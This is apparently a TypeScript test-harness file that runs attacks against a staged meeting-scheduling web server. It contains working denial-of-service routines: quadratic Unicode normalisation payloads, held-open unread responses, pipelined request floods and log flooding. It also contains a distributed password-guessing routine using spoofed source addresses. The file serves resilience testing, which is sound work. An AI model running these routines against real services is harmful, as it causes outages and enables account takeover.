import { once } from "node:events";
import { get, type IncomingMessage } from "node:http";
import { connect } from "node:net";
import { setTimeout as delay } from "node:timers/promises";
import { ALL_SLOTS, type Attack, ATTACKER, LARGE_PEOPLE, pace, repeat, sendAttack } from "./stage.ts";

/** Combining marks in an order that makes normalising quadratic, nearly 256 kB. */
const MARKED = `a${"\u0301".repeat(63_000)}${"\u0323".repeat(63_000)}`;
const MEETING = { timezone: "UTC", minStartHour: 9, maxEndHour: 17, tentativeDates: ["2026-12-01"] };

/** Sends text that is slow to normalise in every call that takes text. */
export const longText: Attack = async (stage) => {
  const { email, meetingID } = stage;
  const calls: readonly (readonly [string, unknown])[] = [
    ["/api/login", { email, password: MARKED }],
    ["/api/signup", { email: "new@attacker.example", password: MARKED, name: "A" }],
    ["/api/signup", { email: "new@attacker.example", password: "long enough", name: MARKED }],
    ["/api/reset-password", { email: MARKED }],
    ["/api/confirm-password-reset", { password: MARKED }],
    [`/api/meetings/${meetingID}/respondents/guest`, { name: MARKED, availabilities: [] }],
    ["/api/meetings", { ...MEETING, name: MARKED }],
    ["/api/meetings", { ...MEETING, name: "A", about: MARKED }],
  ];
  await repeat(stage, 2, async (worker, turn) => {
    const [path, body] = calls[(worker + turn) % calls.length]!;
    await sendAttack(stage, path, { method: "POST", body });
  });
};

/** One key for each answer, because the holder of each key gets a different reply. */
const UNREAD = LARGE_PEOPLE;
const OPENED_AT_MOST = 2_000;

/** Requests a large meeting with different keys, never reads the replies, and sends large saves. */
export const unreadReplies: Attack = async (stage) => {
  const path = `/api/meetings/${stage.meetingID}`;
  const held = new Set<IncomingMessage>();
  let [opening, opened] = [0, 0];
  async function open(): Promise<void> {
    opening += 1;
    opened += 1;
    try {
      const key = stage.respondentKeys[opened % UNREAD] ?? "";
      const headers = { "x-respondent-key": key, "x-forwarded-for": ATTACKER.from };
      const sending = get(stage.url + path, { agent: false, headers }).on("error", () => {});
      const [response] = (await once(sending, "response")) as [IncomingMessage];
      stage.count(response.statusCode ?? 0);
      response.on("error", () => {});
      if (response.statusCode !== 200) return void response.resume();
      held.add(response);
      response.on("close", () => held.delete(response));
    } catch {
      stage.count("cut");
    } finally {
      opening -= 1;
    }
  }
  const saving = repeat(stage, 2, async (_worker, turn) => {
    const body = { name: `Again ${turn}`, availabilities: ALL_SLOTS };
    await sendAttack(stage, `${path}/respondents/guest`, { method: "POST", body });
    await delay(100);
  });
  const opens = pace(stage, 1_000, () => {
    while (opening + held.size < UNREAD && opened < OPENED_AT_MOST) void open();
  });
  await Promise.all([saving, opens]);
  // The process ends later, so its sockets stay open.
};

const PIPELINES = 200;
const PIPELINED = 1_400;
/** Timeout of connections without a reply. */
const GIVEN_UP_MS = 2_000;

/** Pipelines requests over each connection and never reads the replies; Node refuses those without a host. */
export const pipelinedRequests: Attack = async (stage) => {
  const { hostname, port } = new URL(stage.url);
  const forms = ["Host: x\r\n", "", "Host: x\r\nExpect: x\r\n"].map((headers) =>
    Buffer.from(`GET /api/meetings/${stage.meetingID} HTTP/1.1\r\n${headers}\r\n`.repeat(PIPELINED)),
  );
  await repeat(stage, PIPELINES, async (_worker, turn) => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER.localAddress });
    socket.on("connect", () => stage.count("connected")).on("error", () => {});
    socket.pause().write(forms[turn % forms.length]!);
    await Promise.race([new Promise((resolve) => socket.on("close", resolve)), delay(GIVEN_UP_MS)]);
    socket.destroy();
    await delay(100);
  });
};

/** Sends cheap requests that may each cause a log line. */
export const logFlood: Attack = async (stage) => {
  const path = `/api/meetings/${stage.meetingID}`;
  await repeat(stage, 30, async (worker, turn) => {
    const kind = (worker + turn) % 4;
    if (kind === 0) return sendAttack(stage, "/api/server-info", { method: "HEAD" });
    if (kind === 1) return sendAttack(stage, path, { method: "OPTIONS" });
    if (kind === 2) return sendAttack(stage, `/api/nothing/${turn}`, {});
    return sendAttack(stage, "/", { method: "HEAD" });
  });
};

const NETWORKS = 130;

/** Guesses passwords from many networks: half at one account, half at any account. */
export const guessedPasswords: Attack = async (stage) => {
  await repeat(stage, NETWORKS, async (network, turn) => {
    const from = `2001:db8:1:${(network + 1).toString(16)}::1`;
    const email = turn % 2 === 0 ? stage.email : `person-${network}-${turn}@guessed.example`;
    const body = { email, password: `guess ${network} ${turn}` };
    await Promise.all([sendAttack(stage, "/api/login", { method: "POST", body, from }), delay(1_000)]);
  });
};
